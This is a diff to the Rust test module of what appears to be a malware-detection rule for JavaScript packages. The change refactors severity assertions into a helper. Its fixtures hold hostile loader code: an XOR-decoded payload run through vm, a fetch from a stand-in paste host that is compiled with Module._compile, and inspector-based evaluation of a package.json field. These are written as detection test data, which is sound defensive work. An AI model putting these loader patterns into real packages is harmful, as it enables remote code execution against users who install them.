@@ -79,15 +79,17 @@ mod tests {
     use crate::model::Severity;
     use crate::rules::testing::run;
 
+    /// The severity of the first finding on `src` as `index.js`, with every finding on failure.
+    fn first_severity(src: &str) -> (Option<Severity>, String) {
+        let hits = run(&super::RULE, "index.js", src);
+        (hits.first().map(|h| h.severity), format!("{hits:?}"))
+    }
+
     #[test]
     fn xor_decoder_over_a_constant_array_into_vm_is_high() {
         let src = "const vm = require('vm'); const K = [3,9,27,81,243,17,51,153,205]; const D = [107,108,109,110,111,112,113,114,115,116];\nfunction un(a, k) { return a.map((c, i) => String.fromCharCode(c ^ k[i % k.length])).join(''); }\nvm.runInThisContext(un(D, K));";
-        let hits = run(&super::RULE, "index.js", src);
-        assert_eq!(
-            hits.first().map(|h| h.severity),
-            Some(Severity::High),
-            "{hits:?}"
-        );
+        let (severity, hits) = first_severity(src);
+        assert_eq!(severity, Some(Severity::High), "{hits}");
     }
 
     #[test]
@@ -99,23 +101,15 @@ mod tests {
     #[test]
     fn response_chunks_into_module_compile_is_critical() {
         let src = "const https = require('https'); const Module = require('module');\nhttps.get('https://paste.example/raw/x', (res) => { let s = ''; res.on('data', (c) => { s += c; }); res.on('end', () => { const m = new Module('x'); m._compile(s, 'x.js'); }); });";
-        let hits = run(&super::RULE, "index.js", src);
-        assert_eq!(
-            hits.first().map(|h| h.severity),
-            Some(Severity::Critical),
-            "{hits:?}"
-        );
+        let (severity, hits) = first_severity(src);
+        assert_eq!(severity, Some(Severity::Critical), "{hits}");
     }
 
     #[test]
     fn inspector_runtime_evaluate_of_a_json_field_is_critical() {
         let src = "const inspector = require('inspector'); const cfg = require('./package.json');\nconst s = new inspector.Session(); s.connect(); s.post('Runtime.evaluate', { expression: cfg.probe });";
-        let hits = run(&super::RULE, "index.js", src);
-        assert_eq!(
-            hits.first().map(|h| h.severity),
-            Some(Severity::Critical),
-            "{hits:?}"
-        );
+        let (severity, hits) = first_severity(src);
+        assert_eq!(severity, Some(Severity::Critical), "{hits}");
     }
 
     #[test]
